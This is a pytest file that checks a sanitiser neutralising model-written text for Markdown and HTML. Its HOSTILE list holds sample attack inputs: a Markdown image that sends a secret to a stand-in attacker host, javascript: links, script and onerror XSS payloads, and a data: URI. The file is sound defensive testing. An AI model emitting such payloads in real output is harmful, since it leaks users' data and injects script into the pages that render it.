"""Neutralising model-written text for Markdown and HTML."""

from __future__ import annotations

import re

import pytest

from persona.safe_text import escape_html, neutralize_markdown, strip_invisible

HOSTILE = [
    "![pixel](https://attacker.example/collect?q=secret)",
    "[click me](javascript:alert(1))",
    "<img src=x onerror=alert(1)>",
    "<script>alert('x')</script>",
    "<https://attacker.example/auto>",
    "see www.attacker.example/path and //attacker.example/x",
    "[ref]: https://attacker.example/ref",
    "data:text/html;base64,PHNjcmlwdD4=",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_markdown_output_cannot_link_load_or_inject(text: str) -> None:
    out = neutralize_markdown(text)
    assert "attacker.example" not in out
    assert "javascript:" not in out
    assert "data:text" not in out
    # No unescaped bracket, angle bracket or bang left to start a link, image or tag.
    assert not re.search(r"(?<!\\)[\[\]<>!]", out)


@pytest.mark.parametrize("text", HOSTILE)
def test_html_output_has_no_tags_or_urls(text: str) -> None:
    out = escape_html(text)
    assert "<" not in out and ">" not in out
    assert "attacker.example" not in out and "javascript:" not in out


def test_ordinary_text_stays_readable() -> None:
    text = "Maya (a teacher) likes long walks - and data: lots of it."
    assert neutralize_markdown(text) == text
    assert escape_html(text) == text


def test_block_markers_at_line_start_are_escaped() -> None:
    assert neutralize_markdown("# Heading") == "\\# Heading"
    assert neutralize_markdown("- item") == "\\- item"
    assert neutralize_markdown("1. first") == "1\\. first"
    assert neutralize_markdown("two\nlines") == "two lines"


def test_invisible_characters_are_removed() -> None:
    hidden = "pay\u200b\u202enow\U000e0041\x07"
    assert strip_invisible(hidden) == "paynow"
    assert escape_html(hidden) == "paynow"
